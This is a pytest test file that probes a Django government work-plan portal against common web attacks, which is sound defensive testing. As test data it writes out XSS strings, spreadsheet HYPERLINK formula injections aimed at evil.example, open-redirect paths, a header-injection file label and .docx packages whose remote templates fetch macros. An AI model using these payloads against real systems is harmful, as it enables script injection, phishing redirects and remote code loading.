"""What outsiders, people of foreign units and bad luck send, and what must come of it.

Regulations on Open Government Information (State Council Order 711), articles 14 to 17: what is not released stays
inside; the rest of these attacks are those that every public web application meets (OWASP Top Ten 2021, A01 to A05).
"""

import csv
import io
import re
import zipfile
from datetime import timedelta
from typing import Any

import openpyxl
import pytest
from django.conf import settings
from django.contrib.auth.models import AnonymousUser
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from tests.test_access_urls import NAMES, OPEN, PUBLIC, RECORDS, _arguments
from tests.world import NOW, World, build
from yangguang.kernel.models import AuditEvent
from yangguang.organisations.models import Role, RoleHolding
from yangguang.workplan.models import Evidence, UnitMention

pytestmark = pytest.mark.django_db

HUGE, ENDLESS, NUL = "9" * 20, "9" * 5000, "a\x00b"
HOSTILE = ("-1", HUGE, ENDLESS, NUL, "²", "٣", "99999", "0001-01-01", "9999-12-31", "=1+1", "<script>")
# Every field that a page or a view reads by name.
FIELDS = [
    "page",
    "unit",
    "q",
    "share",
    "plan",
    "light",
    "kind",
    "state",
    "year",
    "who",
    "what",
    "since",
    "until",
    "action",
    "format",
    "all",
    "answer",
    "done",
    "next",
    "size",
    "do",
    "problem",
    "revision",
    "number",
    "login",
    "password",
    "code",
    "task",
    "matter",
    "title",
    "text",
    "body",
    "issued_on",
    "scheme_due",
    "working_days",
    "held_on",
    "attendance",
    "display_name",
    "username",
    "email",
    "role",
    "with_descendants",
    "name",
    "short_name",
    "members",
    "active",
    "units",
    "words",
    "aspect",
    "lead_units",
    "deadline",
]
READ_BY_VIEWS = FIELDS[:19]
SENT = {
    "organisations:end-role": {"pk": "holding.pk"},
    "organisations:set-members": {"code": "group.code"},
    "organisations:add-alias": {"code": "own.code"},
    "organisations:rename": {"code": "own.code"},
    "workplan:import-task": {"pk": "notice.pk", "position": "0"},
    "portal:reading-mode": {},
    **{f"organisations:{name}": {"pk": "own.clerk.pk"} for name in ("edit-person", "grant-role", "reset-access")},
    "organisations:set-active": {"pk": "own.clerk.pk"},
}

OWNED = {name: arguments for name, (arguments, _seers) in RECORDS.items()}


@pytest.fixture
def world() -> World:
    return build()


def client_of(world: World, who: str, **options: Any) -> Client:
    client = Client(**options)
    if not isinstance(world.people[who], AnonymousUser):
        client.force_login(world.people[who])
    return client


def addresses(world: World) -> dict[str, str]:
    """Every address of the site that can be built, by name."""
    known = {**PUBLIC, **OWNED, **OPEN, **SENT}
    plain = [name for name in NAMES if name not in known and not re.search(r"webauthn|openid|from_key$|logout", name)]
    return {name: reverse(name, kwargs=_arguments(world, known.get(name, {}))) for name in (*known, *plain)}


class TestBadLuck:
    @pytest.mark.parametrize("who", ["anonymous", "city.office", "city.administrator", "own.head"])
    @pytest.mark.parametrize("value", HOSTILE)
    def test_no_value_in_any_field_is_a_fault_of_the_server(self, world: World, who: str, value: str) -> None:
        client = client_of(world, who, raise_request_exception=False)
        all_at_once = dict.fromkeys(FIELDS, value)
        faults = []
        for name, url in addresses(world).items():
            queries = [all_at_once, *({field: value} for field in READ_BY_VIEWS if value == ENDLESS)]
            faults += [(name, "GET") for query in queries if client.get(url, query).status_code >= 500]
            faults += [
                (name, "POST")
                for do in ("send", value)
                if client.post(url, {**all_at_once, "do": do}).status_code >= 500
            ]
        assert faults == []

    @pytest.mark.parametrize("number", [HUGE, ENDLESS, "²", "0", "1%00", "-1", "%2e%2e", "%e2%80%ae"])
    def test_no_record_s_number_in_the_address_is_one(self, world: World, number: str) -> None:
        client = client_of(world, "city.office", raise_request_exception=False)
        sought = {url for url in addresses(world).values() if re.search(r"/\d+/", url)}
        assert len(sought) > 20
        for url in sorted(sought):
            broken = re.sub(r"/\d+/", f"/{number}/", url)
            assert client.get(broken).status_code in {400, 404, 405, 403}, broken

    @pytest.mark.parametrize("where", ["path", "query", "cookie"])
    def test_a_nul_is_refused_before_the_database_is_asked(self, where: str, django_assert_num_queries: Any) -> None:
        client = Client()
        if where == "cookie":
            client.cookies[settings.SESSION_COOKIE_NAME] = "a" * 16 + "\x00"
        address = {"path": "/units/a%00b/", "query": "/units/?q=%00", "cookie": "/units/"}[where]
        with django_assert_num_queries(0):
            answer = client.get(address)
        assert answer.status_code == 400
        assert "刷新后再试" in answer.content.decode()
        assert answer["X-Content-Type-Options"] == "nosniff"
        assert "default-src 'none'" in answer["Content-Security-Policy"]

    @pytest.mark.parametrize(
        ("who", "length", "status"),
        [
            ("anonymous", str(7 * 1024 * 1024), 413),
            ("anonymous", "9" * 400, 413),
            ("anonymous", "-5", 400),
            ("anonymous", "many", 400),
            ("own.clerk", str(500 * 1024 * 1024), 413),
        ],
    )
    def test_what_is_too_much_is_refused_by_its_length_before_it_is_read(
        self, world: World, who: str, length: str, status: int
    ) -> None:
        class Unread(io.BytesIO):
            def read(self, *_: Any) -> bytes:
                raise AssertionError("read")

        client = client_of(world, who, enforce_csrf_checks=True)
        address = reverse("workplan:share", args=[world.accepted.pk])
        sent = {"CONTENT_LENGTH": length, "CONTENT_TYPE": "multipart/form-data; boundary=x", "wsgi.input": Unread()}
        answer = client.post(address, **sent)
        assert answer.status_code == status
        assert "返回上一页" in answer.content.decode()

    def test_many_chosen_units_may_not_be_any_number(self, world: World) -> None:
        client = client_of(world, "city.office")
        address = reverse("workplan:narrow", args=[world.mention.pk])
        for number in (HUGE, ENDLESS, "-1", "x"):
            assert client.post(address, {"units": [number, str(world.own.pk)]}).status_code == 422
        share = reverse("workplan:share", args=[world.accepted.pk])
        form = {
            "do": "break_down",
            "break_down-title": "甲",
            "break_down-text": "乙",
            "break_down-due_on": "9999-12-31",
        }
        head = client_of(world, "own.head")
        assert head.post(share, {**form, "break_down-units": [HUGE]}).status_code == 422
        assert head.post(share, {**form, "break_down-units": [world.body.pk]}).status_code == 302
        assert head.get(share).status_code == 200

    def test_what_is_marked_as_looked_at_is_one_of_the_problems(self, world: World) -> None:
        client = client_of(world, "city.office")
        client.post(reverse("workplan:import", args=[world.notice.pk]), {"problem": [NUL, "x" * 10**5], "revision": 0})
        world.notice.refresh_from_db()
        assert world.notice.draft.get("settled", []) == []


class TestForeigners:
    """OWASP A01: every address that takes a record's number, sent to by people of another unit."""

    FOREIGN = ("nobody", "former", *(f"foreign.{role}" for role in Role.values))

    @pytest.mark.parametrize("name", sorted((set(RECORDS) | set(SENT)) - {"portal:reading-mode"}))
    def test_a_foreign_unit_s_record_takes_nothing(self, world: World, name: str) -> None:
        url = reverse(name, kwargs=_arguments(world, {**OWNED, **SENT}[name]))
        pieces = (world.evidence.pk, world.released.pk)
        offers = [f"{do}:{pk}" for do in ("show", "hide") for pk in pieces]
        offers += [f"return:{world.report.pk}", f"answer:{world.opinion_consulting.pk}", f"opinion:{world.foreign.pk}"]
        before = AuditEvent.objects.count()
        for who in self.FOREIGN:
            client = client_of(world, who)
            for do in ("", "accept", "issue", "word", "close", "reply", "discard", "remove", "send", "settle", *offers):
                assert client.post(url, {"do": do, "revision": 0, "active": "0"}).status_code in {403, 404, 405}, (
                    who,
                    do,
                )
        assert AuditEvent.objects.count() == before

    def test_a_foreign_piece_named_on_one_s_own_page_stays_as_it_is(self, world: World) -> None:
        """The number in `do=show:<pk>` is looked up among the page's own pieces only."""
        world.accepted.task.assignments.create(unit=world.foreign, part="responsible", state="accepted")
        own = world.accepted.task.assignments.get(unit=world.foreign)
        client = client_of(world, "foreign.head")
        before = AuditEvent.objects.count()
        for do in (f"show:{world.evidence.pk}", f"hide:{world.released.pk}", f"return:{world.report.pk}"):
            assert client.post(reverse("workplan:share", args=[own.pk]), {"do": do}).status_code == 302
        assert AuditEvent.objects.count() == before

    def test_a_lead_unit_sees_the_others_and_moves_nothing(self, world: World) -> None:
        """A lead unit follows the others' progress; releasing and answering stay with the unit itself."""
        world.accepted.task.assignments.create(unit=world.lead, part="lead", state="accepted")
        person = world.people["foreign.head"]
        RoleHolding.objects.create(user=person, unit=world.lead, role=Role.HEAD, since=NOW.date())
        client = client_of(world, "foreign.head")
        address = reverse("workplan:share", args=[world.accepted.pk])
        assert client.get(address).status_code == 200
        before = AuditEvent.objects.count()
        for do in (f"show:{world.evidence.pk}", f"hide:{world.released.pk}", f"return:{world.report.pk}"):
            client.post(address, {"do": do, f"{do.replace(':', '-')}-words": "理由"})
        assert AuditEvent.objects.count() == before

    def test_the_wide_window_does_not_open_what_a_form_did_not_ask(self, world: World) -> None:
        """Mass assignment: fields that no form has change nothing."""
        client = client_of(world, "own.administrator")
        person = world.people["own.clerk"]
        sent = {
            "display_name": "新名",
            "email": "new@example.cn",
            "username": "root",
            "password": "x",
            "is_active": "",
            "must_change_password": "1",
            "is_superuser": "1",
            "pk": world.people["city.office"].pk,
        }
        assert client.post(reverse("organisations:edit-person", args=[person.pk]), sent).status_code == 302
        changed = type(person).objects.get(pk=person.pk)
        assert (changed.display_name, changed.username, changed.password, changed.is_active) == (
            "新名",
            person.username,
            person.password,
            True,
        )

    def test_no_administrator_reaches_beyond_the_own_unit(self, world: World) -> None:
        client = client_of(world, "own.administrator")
        person, myself = world.people["own.clerk"], world.people["own.administrator"]
        before = RoleHolding.objects.count()
        asked = [
            (person, world.city.name, "clerk", ""),
            (person, world.foreign.name, "clerk", ""),
            (person, world.own.name, "clerk", "on"),
            (myself, world.own.name, "reviewer", ""),
        ]
        for whom, unit, role, below in asked:
            sent = {"unit": unit, "role": role, "since": "2020-01-01", **({"with_descendants": below} if below else {})}
            client.post(reverse("organisations:grant-role", args=[whom.pk]), sent)
        assert RoleHolding.objects.count() == before

    @pytest.mark.parametrize("how", ["begins tomorrow", "switched off"])
    def test_what_a_person_may_do_elsewhere_is_out_of_a_unit_administrator_s_reach(
        self, world: World, how: str
    ) -> None:
        """Who may set a password or open an account again must reach all that the person may do then."""
        person = world.people["own.clerk"]
        since = timezone.localdate() + timedelta(days=how == "begins tomorrow")
        RoleHolding.objects.create(user=person, unit=world.city, role=Role.OFFICE, with_descendants=True, since=since)
        type(person).objects.filter(pk=person.pk).update(is_active=how != "switched off")
        before = type(person).objects.filter(pk=person.pk).values().get()
        client = client_of(world, "own.administrator")
        for name, sent in (("reset-access", {}), ("set-active", {"active": "1"})):
            assert client.post(reverse(f"organisations:{name}", args=[person.pk]), sent).status_code == 302
        details = {"display_name": "甲", "email": "thief@example.cn"}
        client.post(reverse("organisations:edit-person", args=[person.pk]), details)
        assert type(person).objects.filter(pk=person.pk).values().get() == before


class TestWhatIsShown:
    SCRIPT = "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>"

    def test_nothing_typed_becomes_a_part_of_a_page(self, world: World) -> None:
        """Names, reasons, matters, bodies, labels, file names and notice texts are written out, never run."""
        evil = self.SCRIPT
        for record, fields in (
            (world.own, ("short_name",)),
            (world.task, ("title", "text", "deadline_text")),
            (world.measure, ("text",)),
            (world.accepted, ("contest_reason", "decision")),
            (world.report, ("text",)),
            (world.released, ("label",)),
            (world.evidence, ("label",)),
            (world.order, ("matter", "reply")),
            (world.event, ("title", "summary")),
            (world.bulletin, ("title", "body")),
            (world.issued_bulletin, ("title", "body")),
            (world.alias, ("name",)),
            (world.notice, ("source_name",)),
            (world.opinion_consulting, ("comment", "answer")),
            (world.people["own.clerk"], ("display_name",)),
            (world.group, ("name",)),
        ):
            known = {field.name for field in record._meta.concrete_fields}
            values = {name: evil for name in fields if name in known}
            assert values
            type(record).objects.filter(pk=record.pk).update(**values)
        UnitMention.objects.update(as_written=evil)
        draft = {**world.notice.draft, "title": evil, "problems": [{"where": evil, "what": evil}]}
        lines = [{"where": evil, "text": evil}, {"where": evil, "rows": [[evil, evil]]}]
        type(world.notice).objects.filter(pk=world.notice.pk).update(draft=draft, parsed=draft, lines=lines)
        for who in ("anonymous", "city.office", "city.administrator", "own.head"):
            client = client_of(world, who)
            for prefix in ("", "/zh-hant"):
                for name, url in addresses(world).items():
                    answer = client.get(prefix + url)
                    if answer.status_code == 200 and answer["Content-Type"].startswith("text/html"):
                        page = answer.content.decode()
                        assert "<script>alert" not in page, (who, name)
                        assert "<img src=x" not in page, (who, name)

    @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "＝", "＠", " =", "\n="])
    def test_no_export_holds_a_formula(self, world: World, start: str) -> None:
        """A spreadsheet, Chinese ones with full-width signs too, must open every cell as words."""
        evil = f'{start}HYPERLINK("http://evil.example",1)'
        type(world.event).objects.update(title=evil, summary=evil)
        type(world.task).objects.update(title=evil, text=evil)
        type(world.released).objects.update(label=evil)
        office = client_of(world, "city.office")
        own = client_of(world, "own.clerk")
        sheets = [
            office.get(reverse("workplan:events"), {"format": "csv"}).content,
            own.get(reverse("workplan:my-tasks"), {"format": "csv"}).content,
            b"".join(office.get(reverse("plans:plan-csv", args=[world.plan.slug]))),
        ]
        seen = 0
        for sheet in sheets:
            for row in csv.reader(io.StringIO(sheet.decode("utf-8-sig"), newline="")):
                for cell in row:
                    seen += "HYPERLINK" in cell
                    assert not re.match(r"\s*[=+\-@＝＋－＠]", cell), cell
        assert seen > 3
        book = openpyxl.load_workbook(
            io.BytesIO(office.get(reverse("plans:plan-xlsx", args=[world.plan.slug])).content)
        )
        assert not [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]

    @pytest.mark.parametrize("control", ["\x01", "\x0b", "\x1b", "\ufffe"])
    def test_control_characters_break_no_download(self, world: World, control: str) -> None:
        evil = f"甲{control}乙\n丙"
        type(world.bulletin).objects.update(title=evil, body=evil)
        type(world.task).objects.update(title=evil, text=evil)
        type(world.released).objects.update(label=evil)
        client = client_of(world, "city.office")
        for name in (
            "plans:bulletin-docx",
            "workplan:bulletin-file",
            "plans:plan-xlsx",
            "plans:plan-csv",
            "plans:evidence",
        ):
            url = addresses(world)[name]
            answer = client.get(url)
            assert answer.status_code == 200, name
            assert answer["Content-Disposition"].startswith("attachment"), name
            b"".join(answer) if answer.streaming else answer.content

    def test_evidence_leaves_as_a_file_and_never_as_a_page(self, world: World) -> None:
        Evidence.objects.filter(pk=world.released.pk).update(media_type="text/html", label="../../x\r\nSet-Cookie: a")
        for who, name in (("anonymous", "plans:evidence"), ("own.clerk", "workplan:evidence")):
            answer = client_of(world, who).get(reverse(name, args=[world.released.pk]))
            assert answer["Content-Disposition"].startswith("attachment")
            assert answer["X-Content-Type-Options"] == "nosniff"
            assert "default-src 'none'" in answer["Content-Security-Policy"]
            assert "/" not in answer["Content-Disposition"]
            assert "Set-Cookie" not in answer

    @pytest.mark.parametrize("link", ["javascript:alert(1)", "data:text/html,x", "ftp://x.cn/", "//x.cn", "http://"])
    def test_evidence_links_are_web_pages(self, world: World, link: str) -> None:
        client = client_of(world, "own.clerk")
        sent = {"do": "report", "report-text": "甲", "report-label_1": "乙", "report-link_1": link}
        client.post(reverse("workplan:share", args=[world.accepted.pk]), sent)
        assert not Evidence.objects.exclude(link="").exclude(link__regex=r"^https?://[^/]").exists()

    @pytest.mark.parametrize(
        "path", ["//evil.example/x", "///evil.example", "/\\evil.example", "//evil.example/%2e%2e"]
    )
    @pytest.mark.parametrize("prefix", ["/zh-hant", ""])
    def test_no_address_makes_a_link_to_another_site(self, path: str, prefix: str) -> None:
        page = Client().get(prefix + path).content.decode()
        assert re.findall(r'(?:href|src|action|value)="[\s]*(?://|/\\|\\)[^"]*"', page) == []

    @pytest.mark.parametrize(
        "back",
        [
            "//evil.example",
            "https:evil.example",
            "/\\evil.example",
            "http:///evil.example",
            "javascript:alert(1)",
            "\x01//evil.example",
            "[",
            "/" + "a" * 9000,
        ],
    )
    def test_no_way_back_leads_elsewhere(self, world: World, back: str) -> None:
        answer = Client(raise_request_exception=False).post(reverse("portal:reading-mode"), {"next": back})
        assert answer.status_code < 500
        if answer.status_code == 302:
            assert re.match(r"/(?![/\\])", answer["Location"])


class TestSignIn:
    def test_a_temporary_password_can_be_changed_in_traditional_script(self, world: World) -> None:
        person = world.people["own.clerk"]
        person.must_change_password = True
        person.save()
        client = client_of(world, "own.clerk")
        for prefix in ("", "/zh-hant"):
            sent = client.get(f"{prefix}/desk/")
            assert sent.status_code == 302
            assert sent["Location"].startswith(f"{prefix}/desk/account/")
            assert client.get(sent["Location"]).status_code == 200

    def test_staff_pages_are_kept_by_no_browser(self, world: World) -> None:
        client = client_of(world, "city.office")
        for name in ("workbench:inbox", "workbench:audit-log", "workplan:orders", "organisations:units"):
            assert "no-store" in client.get(reverse(name))["Cache-Control"], name

    def test_every_kind_of_answer_bears_the_headers(self, world: World) -> None:
        """Pages, downloads, refusals and faults alike."""
        client = client_of(world, "city.office", raise_request_exception=False)
        wanted = (
            "X-Content-Type-Options",
            "Referrer-Policy",
            "Cross-Origin-Opener-Policy",
            "Content-Security-Policy",
            "Permissions-Policy",
        )
        answers = [client.get(url) for url in addresses(world).values()]
        answers += [
            client.get("/nowhere/"),
            client.post("/mode"),
            client.post("/units/"),
            client.get("/", HTTP_HOST="a b"),
        ]
        answers.append(Client(enforce_csrf_checks=True).post("/mode", {"next": "/"}))
        assert {answer.status_code for answer in answers} >= {200, 302, 400, 403, 404, 405}
        for answer in answers:
            assert [name for name in wanted if not answer.has_header(name)] == [], (answer.status_code, answer.request)


class TestUploads:
    def package(self, relation: str, target: str) -> bytes:
        out = io.BytesIO()
        main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
        kind = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{relation}"
        with zipfile.ZipFile(out, "w") as package:
            package.writestr(
                "[Content_Types].xml",
                '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>',
            )
            package.writestr(
                "word/_rels/settings.xml.rels",
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                f'<Relationship Id="a" Type="{kind}" Target="{target}" TargetMode="External"/></Relationships>',
            )
        return out.getvalue()

    @pytest.mark.parametrize(
        ("relation", "target", "taken"),
        [
            ("attachedTemplate", "http://evil.example/a.dotm", False),
            ("attachedTemplate", "\\\\evil.example\\share\\a.dotm", False),
            ("attachedTemplate", "file://evil.example/a.dotm", False),
            ("oleObject", "HTTPS://evil.example/a.html!x", False),
            ("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm", True),
            ("hyperlink", "http://www.changde.gov.cn/", True),
        ],
    )
    def test_a_document_that_fetches_something_when_opened_is_refused(
        self, world: World, relation: str, target: str, taken: bool
    ) -> None:
        """A remote template brings its macros past every check of the file itself."""
        file = SimpleUploadedFile("a.docx", self.package(relation, target))
        before = Evidence.objects.count()
        sent = {"do": "report", "report-text": "甲", "report-file_1": file}
        client_of(world, "own.clerk").post(reverse("workplan:share", args=[world.accepted.pk]), sent)
        assert (Evidence.objects.count() > before) is taken
